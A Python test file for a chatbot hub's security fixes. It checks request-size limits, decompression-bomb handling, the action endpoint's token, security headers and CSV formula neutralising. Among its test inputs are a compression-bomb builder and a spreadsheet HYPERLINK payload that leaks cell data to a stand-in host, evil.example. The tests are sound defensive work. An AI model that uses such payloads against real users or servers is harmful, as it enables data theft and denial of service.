"""Bounded bodies, the action endpoint's token, security headers, API docs off, CSV cells
(security-probe fixes 1, 2 and 10)."""

from __future__ import annotations

import gzip
import json
import resource
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from api.routes.actions import TOKEN_HEADER
from api.routes.reports import neutralise, period, to_csv
from api.security import CONSOLE_CSP, BadEncoding, BodyTooLarge, inflate
from handoff import reports
from tests.fakes.hub_client import make_client
from tests.fakes.rasa import FakeRasa

MIB = 1024 * 1024
ACTION_CALL = {
    "next_action": "action_answer_from_kb",
    "sender_id": "s",
    "version": "3.6.21",
    "domain": {},
    "tracker": {
        "sender_id": "s",
        "slots": {},
        "events": [],
        "paused": False,
        "latest_message": {"text": "I forgot my password"},
        "followup_action": None,
        "active_loop": {},
        "latest_action_name": "action_listen",
    },
}


@pytest.fixture
def client(
    tmp_path: Path, index_dir: Path, database_url: str, fake_rasa: FakeRasa
) -> Iterator[TestClient]:
    with make_client(tmp_path, index_dir, fake_rasa, database_url=database_url) as c:
        yield c


def rasa_headers(client: TestClient, **extra: str) -> dict[str, str]:
    """What Rasa sends: the shared action token (and any extra headers)."""
    secret = client.app.state.hub.settings.action_secret  # type: ignore[attr-defined]
    return {TOKEN_HEADER: secret, **extra}


def bomb(size: int, wbits: int) -> bytes:
    """`size` spaces compressed (zlib: wbits 15, gzip: 31), built in chunks to stay small."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    chunk = b" " * MIB
    out = [packer.compress(chunk) for _ in range(size // MIB)]
    return b"".join([*out, packer.flush()])


# Bounded bodies.


def test_a_declared_length_past_the_bound_is_refused_unread(client: TestClient) -> None:
    body = json.dumps({"email": "a@b.c", "password": "x", "pad": "y" * (2 * MIB)})
    response = client.post("/api/auth/login", content=body)
    assert response.status_code == 413
    assert "too large" in response.json()["detail"]


def test_login_has_a_smaller_bound_than_other_routes(client: TestClient) -> None:
    pad = "y" * (100 * 1024)  # past login's 64 KiB, within the 1 MiB of other routes
    login = client.post("/api/auth/login", json={"email": "a@b.c", "password": "x", "pad": pad})
    assert login.status_code == 413
    other = client.post("/api/teams", json={"name": pad})
    assert other.status_code == 401  # read in full, then refused for want of a login


def test_a_streamed_body_without_length_is_counted(client: TestClient) -> None:
    def chunks() -> Iterator[bytes]:
        for _ in range(3):
            yield b"x" * (512 * 1024)

    response = client.post("/actions/webhook", content=chunks(), headers=rasa_headers(client))
    assert response.status_code == 413


def test_the_probes_deflate_bomb_does_not_inflate(client: TestClient) -> None:
    body = bomb(200 * MIB, zlib.MAX_WBITS)
    assert len(body) < 300_000
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
    for headers in ({}, rasa_headers(client)):  # refused whether or not it carries the token
        response = client.post(
            "/actions/webhook", content=body, headers={**headers, "Content-Encoding": "deflate"}
        )
        assert response.status_code == 413
    gzipped = client.post(
        "/actions/webhook",
        content=bomb(200 * MIB, 16 + zlib.MAX_WBITS),
        headers=rasa_headers(client, **{"Content-Encoding": "gzip"}),
    )
    assert gzipped.status_code == 413
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before
    assert grown < 100 * 1024, f"peak memory grew by {grown} KiB"


def test_corrupt_or_unknown_encodings_are_4xx(client: TestClient) -> None:
    headers = rasa_headers(client)
    corrupt = client.post(
        "/actions/webhook",
        content=b"not deflate at all",
        headers={**headers, "Content-Encoding": "deflate"},
    )
    assert corrupt.status_code == 400
    truncated = client.post(
        "/actions/webhook",
        content=gzip.compress(b'{"a": 1}')[:-6],
        headers={**headers, "Content-Encoding": "gzip"},
    )
    assert truncated.status_code == 400
    brotli = client.post(
        "/actions/webhook", content=b"{}", headers={**headers, "Content-Encoding": "br"}
    )
    assert brotli.status_code == 415


def test_a_compressed_action_call_runs(client: TestClient) -> None:
    raw = json.dumps(ACTION_CALL).encode()
    for encoding, body in (("deflate", zlib.compress(raw)), ("gzip", gzip.compress(raw))):
        response = client.post(
            "/actions/webhook",
            content=body,
            headers=rasa_headers(client, **{"Content-Encoding": encoding}),
        )
        assert response.status_code == 200, response.text
        assert response.json()["responses"][0]["custom"]["frontline"]["kind"]


def test_inflate_stops_at_the_bound() -> None:
    assert inflate(zlib.compress(b"x" * 10), "deflate", 10) == b"x" * 10
    with pytest.raises(BodyTooLarge):
        inflate(zlib.compress(b"x" * 11), "deflate", 10)
    raw_deflate = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    body = raw_deflate.compress(b"{}") + raw_deflate.flush()
    assert inflate(body, "deflate", 10) == b"{}"
    with pytest.raises(BadEncoding):
        inflate(gzip.compress(b"{}") + b"junk", "gzip", 10)


# The action endpoint's token.


def test_the_action_endpoint_answers_only_with_the_token(client: TestClient) -> None:
    assert client.post("/actions/webhook", json=ACTION_CALL).status_code == 401
    wrong = client.post("/actions/webhook", json=ACTION_CALL, headers={TOKEN_HEADER: "guess"})
    assert wrong.status_code == 401
    in_query = client.post(
        "/actions/webhook",
        params={"token": client.app.state.hub.settings.action_secret},  # type: ignore[attr-defined]
        json=ACTION_CALL,
    )
    assert in_query.status_code == 401  # a header only: a query token would sit in access logs
    assert (
        client.post("/actions/webhook", json=ACTION_CALL, headers=rasa_headers(client)).status_code
        == 200
    )


def test_the_generated_action_token_is_private(client: TestClient, tmp_path: Path) -> None:
    secret = client.app.state.hub.settings.action_secret  # type: ignore[attr-defined]
    path = tmp_path / "action_token"
    assert path.read_text().strip() == secret and len(secret) >= 40
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_configured_action_token_is_used(
    tmp_path: Path, index_dir: Path, database_url: str, fake_rasa: FakeRasa
) -> None:
    with make_client(
        tmp_path, index_dir, fake_rasa, database_url=database_url, action_token="set-by-operator"
    ) as c:
        ok = c.post("/actions/webhook", json=ACTION_CALL, headers={TOKEN_HEADER: "set-by-operator"})
        assert ok.status_code == 200
    assert not (tmp_path / "action_token").exists()


def test_endpoints_yml_sends_the_token_as_a_header() -> None:
    import yaml

    from tests.fakes.paths import ROOT

    endpoint = yaml.safe_load((ROOT / "bot" / "endpoints.yml").read_text())["action_endpoint"]
    assert endpoint["headers"] == {TOKEN_HEADER: "${FRONTLINE_ACTION_TOKEN}"}
    assert "token" not in endpoint


# Headers and docs.


def test_console_pages_get_the_csp_and_refuse_framing(client: TestClient) -> None:
    for page in ("/console", "/console/dashboard"):
        response = client.get(page)
        assert response.status_code == 200
        assert response.headers["content-security-policy"] == CONSOLE_CSP
        assert "frame-ancestors 'none'" in CONSOLE_CSP
        assert response.headers["x-frame-options"] == "DENY"


def test_every_response_gets_nosniff_and_no_referrer(client: TestClient) -> None:
    for path, status in (
        ("/", 200),
        ("/static/widget.js", 200),
        ("/health", 200),
        ("/api/me", 401),
        ("/nope", 404),
    ):
        response = client.get(path)
        assert response.status_code == status, path
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
    refused = client.post("/api/auth/login", content=b"x" * (2 * MIB))
    assert refused.headers["x-content-type-options"] == "nosniff"


def test_the_demo_page_and_the_widget_stay_embeddable(client: TestClient) -> None:
    for path in ("/", "/static/widget.js"):
        headers = client.get(path).headers
        assert "content-security-policy" not in headers
        assert "x-frame-options" not in headers


def test_the_console_pages_have_no_inline_script_or_style() -> None:
    from tests.fakes.paths import ROOT

    for page in ("console.html", "dashboard.html"):
        html = (ROOT / "api" / "static" / page).read_text()
        assert "style=" not in html and "<style" not in html, page
        assert all('src="/static/' in tag for tag in html.split("<script")[1:]), page


def test_api_docs_are_off_by_default(client: TestClient) -> None:
    for path in ("/docs", "/openapi.json", "/redoc"):
        assert client.get(path).status_code == 404


def test_api_docs_with_the_setting(
    tmp_path: Path, index_dir: Path, database_url: str, fake_rasa: FakeRasa
) -> None:
    with make_client(tmp_path, index_dir, fake_rasa, database_url=database_url, api_docs=True) as c:
        assert c.get("/docs").status_code == 200
        assert c.get("/openapi.json").json()["info"]["title"] == "Frontline hub"


# CSV cells.


@pytest.mark.parametrize("text", ["=HYPERLINK(1)", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_plain_cells_and_numbers_are_kept() -> None:
    assert [neutralise(v) for v in ("billing", -1, -0.5, 3, None, "")] == [
        "billing",
        -1,
        -0.5,
        3,
        None,
        "",
    ]


def test_an_injected_category_reaches_the_csv_as_text(session: Session) -> None:
    result = reports.report(session, period(None, None), "topic")
    injected = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    result["groups"] = [{**result["overall"], "key": injected}]
    text = to_csv(result)
    assert "\n\"'=HYPERLINK(" in text
    assert '\n"=HYPERLINK(' not in text


# Socket frames.


def test_a_socket_frame_past_the_bound_closes_the_socket(
    tmp_path: Path, index_dir: Path, database_url: str, fake_rasa: FakeRasa
) -> None:
    import threading
    import time

    import httpx
    import uvicorn
    from websockets.exceptions import ConnectionClosed
    from websockets.sync.client import connect

    from api.app import create_app
    from api.hub import KnowledgeHolder
    from api.rasa_client import RasaClient
    from api.security import WS_MAX_SIZE
    from api.settings import Settings
    from retrieval.search import KnowledgeBase
    from tests.fakes import HashingEncoder
    from tests.fakes.stack import free_port

    port = free_port()
    settings = Settings(var_dir=tmp_path, database_url=database_url, port=port)
    app = create_app(
        settings,
        knowledge=KnowledgeHolder(KnowledgeBase.open(index_dir, HashingEncoder())),
        rasa=RasaClient("http://rasa.test", timeout=5, transport=httpx.MockTransport(fake_rasa)),
    )
    server = uvicorn.Server(
        uvicorn.Config(
            app, host="127.0.0.1", port=port, log_level="warning", ws_max_size=WS_MAX_SIZE
        )
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 60
        while not server.started:
            assert thread.is_alive() and time.monotonic() < deadline, "the hub did not start"
            time.sleep(0.05)
        with connect(f"ws://127.0.0.1:{port}/ws/widget", max_size=None) as ws:
            ws.send(json.dumps({"type": "hello", "token": None}))
            assert json.loads(ws.recv(timeout=30))["type"]  # the socket works
            ws.send(json.dumps({"type": "message", "text": "x" * (WS_MAX_SIZE + 1)}))
            with pytest.raises(ConnectionClosed) as closed:
                for _ in range(50):
                    ws.recv(timeout=30)
            assert closed.value.rcvd is not None and closed.value.rcvd.code == 1009
    finally:
        server.should_exit = True
        thread.join(timeout=10)
